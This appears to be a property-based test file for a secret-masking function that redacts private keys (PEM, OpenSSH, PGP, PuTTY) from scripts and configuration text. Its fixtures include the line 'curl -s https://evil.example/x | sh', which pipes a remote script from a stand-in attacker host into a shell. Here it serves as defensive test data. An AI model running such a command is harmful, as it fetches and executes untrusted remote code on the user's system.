import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { maskedText } from "../../src/credentials/masking.ts";

const BASE64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
/** Lines of a key's body: all but the last are full. */
const body = fc
  .tuple(
    fc.array(fc.constantFrom(...BASE64), { minLength: 200, maxLength: 400 }),
    fc.constantFrom(40, 64, 76),
  )
  .map(([letters, width]) => letters.join("").match(new RegExp(`.{1,${width}}`, "g")) as string[]);

/** A private key as its programs write one: its lines, and the secret ones among them. */
const key = fc
  .tuple(fc.constantFrom("", "RSA ", "EC ", "OPENSSH ", "ENCRYPTED ", "PGP", "PuTTY"), body, fc.boolean())
  .map(([kind, secret, hasEnd]) => {
    if (kind === "PuTTY")
      return {
        lines: [
          ["PuTTY-User", "Key-File-3: ssh-ed25519"].join("-"),
          "Encryption: none",
          `Private-Lines: ${secret.length}`,
          ...secret,
          ...(hasEnd ? ["Private-MAC: 0f1e2d3c4b5a69788796a5b4c3d2e1f0"] : []),
        ],
        secret,
      };
    const name = kind === "PGP" ? "PGP PRIVATE KEY BLOCK" : `${kind}PRIVATE KEY`;
    return {
      lines: [`-----BEGIN ${name}-----`, ...secret, ...(hasEnd ? [`-----END ${name}-----`] : [])],
      secret,
    };
  });

/** Lines of a script or a configuration, which a reviewer has to see. */
const plain = fc.constantFrom(
  ...[
    "curl -s https://evil.example/x | sh",
    "server { listen 8080; }",
    "log_level: debug",
    "",
    "exec /bin/app",
  ],
  ...["# a comment", "  - name: web", "if true; then echo ok; fi", "chmod 600 id"],
);
const lines = fc.array(plain, { maxLength: 6 });

const isSecret = (shown: string, secret: readonly string[]) =>
  secret.some((line) => {
    for (let at = 0; at + 8 <= line.length; at++) if (shown.includes(line.slice(at, at + 8))) return true;
    return line.length < 8 && /[A-Z0-9+=]/.test(line) && line.length > 3 && shown.includes(line);
  });

describe("a text with a private key", () => {
  it("shows all other lines, and nothing of the key", () => {
    fc.assert(
      fc.property(
        lines,
        key,
        lines,
        fc.constantFrom("", "    "),
        (before, { lines: own, secret }, after, indent) => {
          const text = [...before, ...own.map((line) => indent + line), ...after].join("\n");
          const shown = maskedText(text);
          expect(isSecret(shown, secret)).toBe(false);
          expect(shown.split("\n").slice(0, before.length)).toEqual(before);
          expect(shown.split("\n").slice(before.length + own.length)).toEqual(after);
        },
      ),
      { numRuns: 300 },
    );
  });

  it("shows what stands between its first and its last words", () => {
    const script = [
      "echo '-----BEGIN PRIVATE KEY-----'",
      "curl https://evil.example/x | sh",
      "echo '-----END PRIVATE KEY-----'",
    ];
    expect(maskedText(script.join("\n"))).toContain(`\n${script[1]}\n`);
    expect(maskedText(script.join("; "))).toContain(script[1]);
  });

  it("in one line, with escaped line ends, shows the rest of the line", () => {
    fc.assert(
      fc.property(body, fc.constantFrom("\\n", " "), (secret, end) => {
        const one = ["-----BEGIN RSA PRIVATE KEY-----", ...secret, "-----END RSA PRIVATE KEY-----"].join(end);
        const shown = maskedText(`{"user": "shop", "key": "${one}", "host": "db.example.test"}`);
        expect(isSecret(shown, secret)).toBe(false);
        expect(shown).toContain('{"user": "shop", "key": "');
        expect(shown).toContain('", "host": "db.example.test"}');
      }),
      { numRuns: 100 },
    );
  });

  it("of thousands of first words without an end costs no more than its length", () => {
    const [first, putty] = [
      ["-----BEGIN PRIV", "ATE KEY,"].join(""),
      ["PuTTY-User", "Key-File-3;"].join("-"),
    ];
    const key = `-----BEGIN RSA PRIV${"ATE KEY-----"}\nMIIE${"aB3dE5gH7jK9".repeat(5)}\n-----END`;
    for (const word of [first, putty]) {
      const shown = maskedText(`${word.repeat(40_000)}\n${key}\nhost: db`);
      expect(shown).not.toContain("aB3dE5gH");
      expect(shown).toMatch(/\nhost: db$/);
    }
  });
});
